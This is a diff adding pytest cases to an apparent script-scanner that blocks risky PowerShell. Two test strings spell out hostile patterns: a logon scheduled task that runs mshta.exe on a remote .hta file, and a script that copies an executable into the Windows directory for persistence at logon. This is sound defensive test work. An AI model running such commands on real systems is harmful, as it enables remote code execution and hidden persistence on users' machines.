@@ -81,3 +81,34 @@ def test_oc_delete_every_secret_in_a_project_blocks(tmp_path: Path) -> None:
 def test_kubectl_delete_named_pod_and_scratch_pods_does_not_block(tmp_path: Path) -> None:
     sh = "kubectl --context kind-dev delete pod web-1\nkubectl --context kind-dev -n scratch delete pods --all\n"
     assert blocking(tmp_path, {"restart.sh": sh}) == {}
+
+
+# ------------------------------------------------ a scheduled task that starts a program the system has
+
+
+def test_scheduled_task_starting_a_system_program_does_not_block(tmp_path: Path) -> None:
+    ps = (
+        "$a = New-ScheduledTaskAction -Execute 'defrag.exe' -Argument 'C: /O'\n"
+        "$t = New-ScheduledTaskTrigger -Weekly -DaysOfWeek Sunday -At 3am\n"
+        "if ((Read-Host 'Register weekly optimise? [y/N]') -ne 'y') { return }\n"
+        "Register-ScheduledTask -TaskName 'WeeklyOptimise' -Action $a -Trigger $t\n"
+    )
+    assert blocking(tmp_path, {"optimise.ps1": ps}) == {}
+
+
+def test_scheduled_task_starting_a_script_host_blocks(tmp_path: Path) -> None:
+    ps = (
+        "$a = New-ScheduledTaskAction -Execute 'mshta.exe' -Argument 'https://tiles.example.test/t.hta'\n"
+        "$t = New-ScheduledTaskTrigger -AtLogOn\n"
+        "Register-ScheduledTask -TaskName 'TileCache' -Action $a -Trigger $t\n"
+    )
+    assert "SY-PS-006" in blocking(tmp_path, {"tiles.ps1": ps})
+
+
+def test_scheduled_task_starting_a_program_the_script_put_in_place_blocks(tmp_path: Path) -> None:
+    ps = (
+        'Copy-Item "$PSScriptRoot\\\\helper.exe" "$env:WINDIR\\\\helper.exe"\n'
+        "$a = New-ScheduledTaskAction -Execute 'helper.exe'\n"
+        "Register-ScheduledTask -TaskName 'Helper' -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n"
+    )
+    assert "SY-PS-006" in blocking(tmp_path, {"setup.ps1": ps})
